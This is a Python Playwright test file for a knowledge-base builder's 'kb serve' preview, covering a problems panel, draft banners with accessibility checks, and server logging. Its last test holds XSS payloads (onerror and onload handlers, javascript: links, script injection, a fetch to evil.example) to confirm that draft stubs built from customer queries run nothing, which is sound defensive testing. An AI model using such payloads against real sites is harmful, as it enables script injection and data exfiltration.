"""``kb serve`` as an author sees it, in Chromium: a check error never freezes the preview.

The problems of the latest build are listed over every page, with file and line, and
clear by themselves (through live reload) with the save that fixes them; drafts carry a
visible banner and stay out of the preview's search.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import REPO, SiteFactory, article, free_port, minimal_sections, wait_for

DUPLICATE = (
    "docs/email/wip.md:2: 'title': expected a title no other article uses, "
    "got 'Mailbox quota', also the title of docs/email/quota.md"
)
DUPLICATE_TOO = (
    "docs/email/quota.md:2: 'title': expected a title no other article uses, "
    "got 'Mailbox quota', also the title of docs/email/wip.md"
)
NO_ALT = (
    "docs/email/quota.md:11: 'image': expected alt text describing the image, got none for 'x.png'"
)


def fetch(url: str) -> str:
    with urllib.request.urlopen(url, timeout=10) as response:
        return str(response.read().decode())


@pytest.fixture
def serve(site_factory: SiteFactory, tmp_path: Path) -> Iterator[Any]:
    """Start ``kb serve`` on the site written so far; yields its base URL."""
    procs: list[subprocess.Popen[bytes]] = []

    def start() -> str:
        port = free_port()
        env = {
            **os.environ,
            "KB_RATE_LIMIT": "0/minute",
            "KB_DATABASE_URL": f"sqlite:///{tmp_path / 'kb.sqlite3'}",
        }
        with (tmp_path / "serve.log").open("wb") as log:
            proc = subprocess.Popen(
                [sys.executable, "-m", "kb_builder.cli", "serve", "-a", f"127.0.0.1:{port}"],
                cwd=tmp_path,
                env=env,
                stdout=log,
                stderr=subprocess.STDOUT,
            )
        procs.append(proc)
        base = f"http://127.0.0.1:{port}/"
        wait_for(base + "api/health", proc=proc)
        return base

    yield start
    for proc in procs:
        proc.terminate()
        proc.wait(timeout=10)


def problems_panel(page: Any) -> list[str]:
    items = page.locator(".kb-problems li")
    return [str(t) for t in items.all_inner_texts()]


def test_a_check_error_at_start_up_is_listed_and_clears_on_the_next_good_save(
    site_factory: SiteFactory, tmp_path: Path, serve: Any, page: Any
) -> None:
    site_factory.write(
        {
            **minimal_sections(),
            "email/quota.md": article("Mailbox quota", "Mailbox full."),
            # A draft reusing a published title: kb serve used to exit 1 on this.
            "email/wip.md": article("Mailbox quota", "Unfinished.", extra_front="draft: true"),
        },
        plugin={"search_index": True},
    )
    base = serve()
    page.goto(base + "email/quota/")
    page.locator(".kb-problems").wait_for()
    assert page.locator("#kb-problems-title").inner_text() == (
        "2 problems in articles: kb build would fail. Fix and save; this panel clears by itself."
    )
    assert problems_panel(page) == [DUPLICATE_TOO, DUPLICATE]
    assert "Mailbox full." in page.locator("article").inner_text()

    # The fix: live reload reloads the page, and the panel is gone.
    docs = tmp_path / "docs" / "email"
    (docs / "wip.md").write_text(
        article("Mailbox quota for resellers", "Unfinished.", extra_front="draft: true")
    )
    page.locator(".kb-problems").wait_for(state="detached", timeout=30_000)

    # A new error in an article being edited: the page shows the edit and the problem.
    (docs / "x.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    (docs / "quota.md").write_text(article("Mailbox quota", "Mailbox full.\n\n![](x.png)\n"))
    page.locator(".kb-problems").wait_for(timeout=30_000)
    assert problems_panel(page) == [NO_ALT]
    page.locator("article img").wait_for(state="attached")
    # Every page lists it, including pages the dirty build did not render again.
    other = page.context.new_page()
    other.goto(base + "email/")
    other.locator(".kb-problems").wait_for()
    assert problems_panel(other) == [NO_ALT]
    # Fixed again: both clear.
    (docs / "quota.md").write_text(article("Mailbox quota", "Mailbox full. Fixed."))
    page.locator(".kb-problems").wait_for(state="detached", timeout=30_000)
    other.locator(".kb-problems").wait_for(state="detached", timeout=30_000)
    assert "Fixed." in page.locator("article").inner_text()
    log = (tmp_path / "serve.log").read_text()
    assert "The server will appear stuck" not in log
    assert "2 problem(s) in articles: the preview shows them on every page until fixed" in log


def test_drafts_have_a_banner_and_stay_out_of_the_preview_search(
    site_factory: SiteFactory, serve: Any, page: Any
) -> None:
    site_factory.write(
        {
            **minimal_sections(),
            "email/bounces.md": article("Bounced mail", "Mail comes back with 550 zebrafish."),
            "email/zebra.md": article(
                "Zebrafish zebrafish", "Zebrafish zebrafish zebrafish.", extra_front="draft: true"
            ),
        },
        plugin={"search_index": True},
    )
    base = serve()
    page.goto(base + "email/zebra/")
    banner = page.locator(".kb-draft-banner")
    assert banner.inner_text() == (
        "Draft. This article is in the preview only: kb build leaves it out, and search here "
        "does not rank it, until draft: true is removed from its front matter."
    )
    box = banner.bounding_box()
    assert box is not None and box["height"] > 30 and box["width"] > 300
    assert page.locator(".mkdocs-draft-marker").count() == 0
    # The banner reads well in both schemes, at both widths (axe: no serious violation).
    axe = REPO / "node_modules" / "axe-core" / "axe.min.js"
    assert axe.is_file(), f"axe-core is missing at {axe}: run `npm ci` in the repository root"
    for scheme, width in (("light", 1280), ("dark", 1280), ("light", 390), ("dark", 390)):
        page.set_viewport_size({"width": width, "height": 800})
        page.emulate_media(color_scheme=scheme)
        page.reload()
        page.add_script_tag(path=str(axe))
        result = page.evaluate("axe.run(document, {resultTypes: ['violations']})")
        serious = [
            (v["id"], [n["target"] for n in v["nodes"]][:3])
            for v in result["violations"]
            if v["impact"] in ("serious", "critical")
        ]
        assert serious == [], (scheme, width, serious)
    page.goto(base + "email/bounces/")
    assert page.locator(".kb-draft-banner").count() == 0
    assert page.locator(".kb-problems").count() == 0
    data = json.loads(fetch(base + "api/search?q=zebrafish"))
    assert [r["path"] for r in data["results"]] == ["email/bounces.md"]


def test_the_serve_log_keeps_warnings_for_what_needs_attention(
    site_factory: SiteFactory, tmp_path: Path, serve: Any
) -> None:
    site_factory.write(
        {**minimal_sections(), "email/quota.md": article("Mailbox quota", "Mailbox full.")},
        plugin={"search_index": True},
    )
    base = serve()
    request = urllib.request.Request(
        base + "api/events",
        data=json.dumps({"type": "search_no_results", "query": "zebra"}).encode(),
        headers={"Content-Type": "application/json"},
        method="POST",
    )
    for _ in range(3):
        with urllib.request.urlopen(request, timeout=10) as response:
            assert response.status == 204
    with pytest.raises(urllib.error.HTTPError):
        fetch(base + "no-such-page/")
    not_found = re.compile(r'INFO    -  \[[\d:]+\] "GET /no-such-page/ HTTP/1.1" code 404')
    for _ in range(100):  # the server logs a request after answering it
        log = (tmp_path / "serve.log").read_text()
        if not_found.search(log):
            break
        time.sleep(0.1)
    assert log.count("INFO    -  POST /api/events 204") == 3, log
    assert "code 204" not in log  # MkDocs' own line for it, a WARNING, is gone
    assert not_found.search(log), log
    assert [w for w in log.splitlines() if w.startswith("WARNING") and "HTTP" in w] == []


def test_gap_drafts_of_hostile_queries_run_nothing_in_the_preview(
    site_factory: SiteFactory, tmp_path: Path, serve: Any, page: Any
) -> None:
    import datetime as dt

    from kb_builder.core.gaps import write_gap_stubs
    from kb_feedback.report.model import Funnel, Gap, Report

    run = "window.__kbPwned=1;alert(1);fetch('http://evil.example/ran')"
    queries = [
        "<svg/onload=alert(1)>",
        f"<img src=x onerror={run}> mail",
        "{{ extra.x }}",
        f"[help](javascript:{run}) mail",
        f'"]\ntitle: x\n---\n<script>{run}</script>',
        f"mail {{: onclick={run!r} }}",
        f"![x](http://evil.example/p.png) `code` **bold** <!-- c --> &lt;b&gt; {run}",
    ]
    site_factory.write(
        {**minimal_sections(), "email/quota.md": article("Mailbox quota", "Mailbox full.")},
        plugin={"search_index": True},
    )
    day = dt.date(2025, 6, 30)
    report = Report(
        since=day,
        until=day,
        funnel=Funnel(0, 0, 0, 0),
        deflection=[],
        top_viewed=[],
        least_helpful=[],
        gaps=[Gap(q, 3, {"search_no_results": 3}, (q,)) for q in queries],
    )
    written = write_gap_stubs(report, tmp_path / "docs", section="email", limit=len(queries))
    assert len(written) == len(queries)
    dialogs: list[str] = []

    def on_dialog(dialog: Any) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    base = serve()
    for path, query in zip(written, queries, strict=True):
        page.goto(base + f"email/{path.stem}/")
        page.locator(".kb-draft-banner").wait_for()
        shown = " ".join(query.split())
        assert f"Customers asked: “{shown}”" in " ".join(
            page.locator("article").inner_text().split()
        )
        assert page.evaluate("window.__kbPwned === undefined"), query
    assert page.locator(".kb-problems").count() == 0
    assert dialogs == []
    assert all(u.startswith(base) for u in page.requests), page.requests
